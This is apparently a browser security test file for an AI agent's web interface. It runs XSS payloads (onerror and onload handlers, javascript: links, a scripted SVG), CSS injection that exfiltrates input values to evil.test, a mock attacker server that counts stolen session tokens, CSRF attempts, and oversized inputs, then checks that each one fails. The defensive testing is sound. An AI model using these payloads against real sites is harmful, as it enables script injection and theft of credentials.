/// <reference types="node" />
// What hostile text and foreign pages try, played in a browser: one fixture for each case, and a table of how each went,
// `docs/page-cases.md`. A case without a fixture counts as failed.

import { readFileSync } from "node:fs";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import type { Browser, Page } from "playwright-core";
import { expect, test } from "vitest";
import { card, Looked, open, say, violationsOf } from "./looked.ts";
import { Served, type Setup } from "./served.ts";

interface Case {
  readonly id: string;
  readonly input: string;
  readonly expected: string;
}

interface Room {
  readonly page: Page;
  readonly served: Served;
  readonly looked: Looked;
}

type Fixture = (browser: Browser) => Promise<string>;

const read = (name: string): string => readFileSync(new URL(name, import.meta.url), "utf8");

/** Signs in at a server that plays the script, and looks afterwards whether anything ran or went out. */
async function inRoom(browser: Browser, setup: Setup, work: (room: Room) => Promise<string>): Promise<string> {
  const served = await Served.start(setup);
  const looked = await Looked.at(browser, served);
  try {
    const page = await looked.room();
    const seen = await work({ page, served, looked });
    expect(await page.evaluate(() => window.__p)).toBeUndefined();
    expect(await violationsOf(page)).toEqual([]);
    expect(looked.troubles).toEqual([]);
    return seen;
  } finally {
    await looked.close();
    await served.stop();
  }
}

const thread = (page: Page): Promise<string> => page.locator("#thread").innerText();

/** Lets the model say this; hands out what is seen of it, and clicks on all that can be clicked. */
function told(text: string, has: readonly string[]): Fixture {
  const script = `=== reply\n${text}\n\nThat is all.\n=== repeat forever\n`;
  return (browser) =>
    inRoom(browser, { script, mode: "full" }, async ({ page }) => {
      await say(page, "go");
      await page.getByText("That is all.").waitFor();
      const seen = await thread(page);
      for (const part of has) expect(seen).toContain(part);
      const foreign = await page.locator("#thread").evaluate((place) =>
        [...place.querySelectorAll("script, iframe, object, embed, form, meta, base, link, style, img:not([src^='/']):not([src^='blob:'])")].map((one) => one.outerHTML),
      );
      expect(foreign).toEqual([]);
      const live = await page.locator("#thread a[href]").evaluateAll((links) => links.map((link) => (link as HTMLAnchorElement).protocol));
      expect(live.filter((scheme) => !["http:", "https:", "mailto:"].includes(scheme))).toEqual([]);
      return `shown as text, ${live.length} live links, no element of its own`;
    });
}

const HOSTILE = '"><img src=x onerror=window.__p=1>';

async function payloads(browser: Browser): Promise<string> {
  const script = `=== reply
<execute_command><![CDATA[echo '${HOSTILE}']]></execute_command>
<write_file path="a${HOSTILE.replaceAll('"', "&quot;").replaceAll("<", "&lt;").replaceAll(">", "&gt;")}.txt"><![CDATA[${HOSTILE}
]]></write_file>
=== repeat forever
`;
  return inRoom(browser, { script }, async ({ page }) => {
    await say(page, HOSTILE);
    await card(page, "asking").first().waitFor();
    expect(await thread(page)).toContain("<img src=x onerror=window.__p=1>");
    expect(await page.locator("h1").innerText()).toContain("<img");
    await card(page, "asking").getByRole("button", { name: /once/i }).click();
    await page.waitForFunction(() => document.querySelectorAll("article[data-call]").length >= 2);
    expect(await page.locator("#thread img:not([src^='blob:'])").count()).toBe(0);
    return "message, title, command and path are shown as they are";
  });
}

function written(name: string, body: string, shown: string): Fixture {
  return (browser) =>
    inRoom(browser, { script: `=== reply\n<write_file path="${name}"><![CDATA[${body}]]></write_file>\nThat is all.\n=== repeat forever\n`, mode: "full" }, async ({ page, served }) => {
      await say(page, "go");
      await page.getByText("That is all.").first().waitFor();
      await page.getByRole("button", { name: "Files", exact: true }).first().click();
      await page.getByRole("dialog").getByText(name).last().click();
      await page.waitForTimeout(500);
      expect(await served.file(name)).toContain("<script>");
      return shown;
    });
}

async function output(browser: Browser): Promise<string> {
  const script = `=== reply
<execute_command><![CDATA[printf '</pre><script>window.__p=1</script>\\n<im\\033[31mg src=x onerror=window.__p=1>\\n']]></execute_command>
That is all.
=== repeat forever
`;
  return inRoom(browser, { script, mode: "full" }, async ({ page }) => {
    await say(page, "go");
    await page.locator("article[data-call]").first().waitFor();
    await page.waitForFunction(() => document.querySelector("#thread footer"));
    const fold = page.locator("article[data-call] button[aria-expanded=false]").first();
    if (await fold.count()) await fold.click();
    expect(await page.locator("article[data-call]").first().innerText()).toContain("</pre><script>window.__p=1</script>");
    return "shown as it is";
  });
}

async function colors(browser: Browser): Promise<string> {
  const script = `=== reply
<execute_command><![CDATA[printf '\\033[31mred\\033[0m \\033[38:2::1:2:3mrgb\\033[m \\302\\23332mgreen\\033[0m\\n']]></execute_command>
That is all.
=== repeat forever
`;
  return inRoom(browser, { script, mode: "full" }, async ({ page }) => {
    await say(page, "go");
    await page.waitForFunction(() => document.querySelector("#thread footer"));
    const command = page.locator("article[data-call]").first();
    // A good end folds after a while; what a person opened stays open.
    await command.locator("button[aria-expanded=false]").first().click();
    expect(await command.innerText()).toContain("red rgb green");
    await command.locator(".xterm-rows span", { hasText: "green" }).waitFor();
    const seen = await command.locator(".xterm-rows").evaluate((rows) => [rows, ...rows.querySelectorAll("span")].filter((one) => one.textContent.trim()).map((one) => getComputedStyle(one).color));
    // The rows as a whole, and three words.
    expect([seen.length, new Set(seen).size]).toEqual([4, 4]);
    return "`red rgb green`, each word in a color of its own";
  });
}

async function headers(browser: Browser): Promise<string> {
  return inRoom(browser, { script: "=== reply\nDone.\n" }, async ({ served }) => {
    const answer = await fetch(served.url);
    const policy = answer.headers.get("content-security-policy") ?? "";
    for (const rule of ["default-src 'none'", "script-src 'self';", "img-src 'self' blob:;", "connect-src 'self'", "frame-ancestors 'none'", "form-action 'none'", "base-uri 'none'"]) {
      expect(policy).toContain(rule);
    }
    expect(policy).not.toContain("unsafe");
    expect(answer.headers.get("x-content-type-options")).toBe("nosniff");
    expect(answer.headers.get("referrer-policy")).toBe("no-referrer");
    return "all of them are there";
  });
}

/** A theme is a name of ours: no text of the model's is ever a style. */
async function styles(browser: Browser): Promise<string> {
  const css = "<style>@import url(http://evil.test/a.css); .question { display: none } input[value^=a] { background: url(http://evil.test/b) }</style>";
  const script = `=== reply\n${css}\n<write_file path="theme.css"><![CDATA[${css}]]></write_file>\n=== repeat forever\n`;
  return inRoom(browser, { script }, async ({ page }) => {
    await say(page, "go");
    await card(page, "asking").first().waitFor();
    const sheets = await page.evaluate(() => [...document.styleSheets].map((sheet) => new URL(sheet.href ?? location.href).origin === location.origin));
    expect(sheets.length).toBeGreaterThan(0);
    expect(sheets).not.toContain(false);
    expect(await page.locator("#thread style").count()).toBe(0);
    expect(await card(page, "asking").getByRole("button", { name: /once/i }).isVisible()).toBe(true);
    return "the page takes no style but its own; the question stands";
  });
}

/** Texts that no page can draw as a whole. */
const ENDLESS: readonly string[] = [
  `| a | b |\n|--|--|\n${"| 1 | 2 |\n".repeat(20_000)}`,
  "x".repeat(5 * 1_048_576),
  `a${"\u0301".repeat(100_000)}`,
  "word\n\n".repeat(30_000),
  "- word\n".repeat(30_000),
];

async function endless(browser: Browser): Promise<string> {
  for (const text of ENDLESS) {
    await inRoom(browser, { script: `=== reply\n${text}\n\nThat is all.\n=== repeat forever\n`, mode: "full" }, async ({ page }) => {
      await say(page, "go");
      await page.waitForFunction(() => window.spoken.some((said) => said.includes("Answer ready")), null, { timeout: 90_000 });
      expect(await page.locator("*").count()).toBeLessThan(3_000);
      expect((await page.locator("#thread").innerText()).length).toBeLessThan(40_000);
      await page.locator("#say").fill("still here");
      expect(await page.locator("#say").inputValue()).toBe("still here");
      return "";
    });
  }
  return "a part of each is drawn, the rest is behind a button; the composer takes words";
}

/** The attacker's server: one page that fires all it can, and redirections to us. Counts what holds our token. */
async function evil(target: string, token: () => string): Promise<{ server: Server; port: number; stolen: () => number }> {
  let stolen = 0;
  const server = createServer((request, response) => {
    const whole = `${request.url} ${JSON.stringify(request.headers)}`;
    if (token() && whole.includes(token())) stolen += 1;
    const path = request.url ?? "/";
    if (path.startsWith("/to/")) {
      response.writeHead(307, { Location: `${target}/${path.slice(4)}`, "Access-Control-Allow-Origin": "*" }).end();
    } else if (path.endsWith(".js")) {
      response.writeHead(200, { "Content-Type": "text/javascript" }).end(read("attacks.js").replace("$API", target));
    } else {
      response.writeHead(200, { "Content-Type": "text/html" }).end("<!doctype html><title>evil</title><body><script src=/attacks.js></script>");
    }
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  return { server, port: (server.address() as AddressInfo).port, stolen: () => stolen };
}

interface Attack {
  readonly shapes: number;
  readonly leaks: readonly string[];
  readonly changed: boolean;
  readonly stolen: number;
}

let attacked: Promise<Attack> | null = null;

/** All attacks of a foreign page, from another port and from another name; played once, and read by several cases. */
const attack = (browser: Browser): Promise<Attack> => (attacked ??= play(browser));

async function play(browser: Browser): Promise<Attack> {
  const served = await Served.start({ script: "=== reply\nDone.\n=== repeat forever\n", mode: "full" });
  const looked = await Looked.at(browser, served);
  try {
    const page = await looked.room();
    await say(page, "hello");
    await page.getByText("Done.").waitFor();
    const token = await tokenOf(page);
    const state = async (): Promise<string> => {
      const list = await asked(served, "/api/sessions", token);
      return `${await list.text()} ${await served.files()} ${(await asked(served, "/api/config", token)).status}`;
    };
    const before = await state();
    const other = await evil(served.url, () => token);
    let shapes = 0;
    const leaks: string[] = [];
    for (const host of ["127.0.0.1", "evil.test"]) {
      const tab = await page.context().newPage();
      await tab.goto(`http://${host}:${other.port}/`);
      await tab.waitForFunction(() => "done" in window, null, { timeout: 110_000 });
      const found = await tab.evaluate(() => ({ shapes: Reflect.get(window, "shapes") as number, leaks: Reflect.get(window, "leaks") as string[] }));
      shapes += found.shapes;
      leaks.push(...found.leaks);
      await tab.close();
    }
    other.server.close();
    return { shapes, leaks, changed: (await state()) !== before, stolen: other.stolen() };
  } finally {
    await looked.close();
    await served.stop();
  }
}

/** The token, where the page keeps it. */
const tokenOf = (page: Page): Promise<string> =>
  page.evaluate(() => Object.values(localStorage).map((value) => String(value).replaceAll('"', "")).find((value) => /^[\w-]{43}$/.test(value)) ?? "");

const asked = (served: Served, path: string, token: string): Promise<Response> => fetch(served.url + path, { headers: { Authorization: `Bearer ${token}` } });

const foreign: Fixture = async (browser) => {
  const { shapes, leaks, changed, stolen } = await attack(browser);
  expect(shapes).toBeGreaterThanOrEqual(80);
  expect(leaks).toEqual([]);
  expect(changed).toBe(false);
  expect(stolen).toBe(0);
  return `${shapes} kinds of requests from another port and another name: nothing read, nothing changed`;
};

const places: Fixture = (browser) =>
  inRoom(browser, { script: "=== reply\nDone.\n" }, async ({ page, served }) => {
    const token = await tokenOf(page);
    expect((await asked(served, "/api/sessions", token)).status).toBe(200);
    const path = `${served.url}/api/sessions`;
    const others = [
      fetch(`${path}?token=${token}`),
      fetch(path, { headers: { "X-Api-Key": token } }),
      fetch(path, { headers: { Cookie: `token=${token}` } }),
      fetch(path, { headers: { Authorization: `Basic ${btoa(`tagline:${token}`)}` } }),
    ];
    expect((await Promise.all(others)).map(({ status }) => status)).toEqual([401, 401, 401, 401]);
    return "`Authorization: Bearer` is the one way in";
  });

/** A page of ours calls another server of ours, with its own token and with that of the other. */
const another: Fixture = (browser) =>
  inRoom(browser, { script: "=== reply\nDone.\n" }, async ({ page, looked }) => {
    const other = await Served.start({ script: "=== reply\nDone.\n" });
    try {
      const token = await tokenOf(page);
      const status = (await asked(other, "/api/sessions", token)).status;
      expect(status).toBe(401);
      expect(await page.context().cookies()).toEqual([]);
      expect(looked.troubles).toEqual([]);
      return `${status}; no cookie exists`;
    } finally {
      await other.stop();
    }
  });

const SVG = '<svg xmlns="http://www.w3.org/2000/svg" onload="window.__p=1"><script>window.__p=1</script><foreignObject><iframe src="http://evil.test/"/></foreignObject><use href="http://evil.test/a.svg#b"/><image href="http://evil.test/c.png"/></svg>';

const FIXTURES: Readonly<Record<string, Fixture>> = {
  "XSS-01": told('<img src=x onerror="window.__p=1"> and <svg onload=window.__p=1>', ["onerror"]),
  "XSS-02": told("[a](javascript:window.__p=1), [b](data:text/html,<script>window.__p=1</script>), [c](JaVaScRiPt\\u003a1), [d](vbscript:1), [e](https://example.org/)", ["a", "e"]),
  "XSS-03": told("[one](calculator://), [two](smb://127.0.0.1/s), [three](file:///x), [four](ms-msdt:x)", ["one", "two", "three", "four"]),
  "XSS-04": written("picture.svg", SVG, "shown without script, and without anything from outside"),
  "XSS-06": payloads,
  "XSS-07": told('<link rel=stylesheet href=http://evil.test/a.css><meta http-equiv=refresh content="0;url=http://evil.test/"><base href=http://evil.test/><form action=http://evil.test/><button>Go</button></form><p style="background:url(http://evil.test/b)">styled</p> ![picture](http://evil.test/c.png)', ["styled"]),
  "XSS-08": told("Sign in at [the address](javascript:window.__p=1) or at <javascript:window.__p=1>", ["the address"]),
  "XSS-09": headers,
  "XSS-10": output,
  "XSS-11": styles,
  "ANSI-01": colors,
  "DOS-13": endless,
  "CSRF-01": foreign,
  "CSRF-02": foreign,
  "CSRF-03": foreign,
  "CSRF-05": foreign,
  "CSRF-06": foreign,
  "CSRF-08": foreign,
  "CSRF-09": foreign,
  "CSRF-10": places,
  "CSRF-13": another,
};

const HEAD = `# Cases of the page

Written by \`cargo xtask browser\`: each case is played in a browser, at the program itself. What is looked for each time: whether
anything of it ran, a dialog opened, the page's policy had to refuse something, or a request went to another host. A case
without a fixture counts as failed. What servers and programs of others try is in [server-cases.md](server-cases.md).

| case | what happens | what must follow | what was seen |
|--|--|--|--|
`;

test("every case of the page goes as it should", async () => {
  const browser = await open();
  const rows: string[] = [];
  const failures: string[] = [];
  for (const line of read("cases.jsonl").trim().split("\n")) {
    const { id, input, expected } = JSON.parse(line) as Case;
    const fixture = FIXTURES[id];
    const seen = await (fixture ? fixture(browser) : Promise.reject(new Error("no fixture"))).then(
      (text) => `passed: ${text}`,
      (error: unknown) => {
        failures.push(`${id}: ${error instanceof Error ? error.message : String(error)}`);
        return "**failed**";
      },
    );
    rows.push(`| ${id} | ${input} | ${expected} | ${seen} |\n`);
  }
  await browser.close();
  expect(failures).toEqual([]);
  await expect(`${HEAD}${rows.join("")}\n${rows.length - failures.length} of ${rows.length} passed.\n`).toMatchFileSnapshot("../../docs/page-cases.md");
}, 600_000);
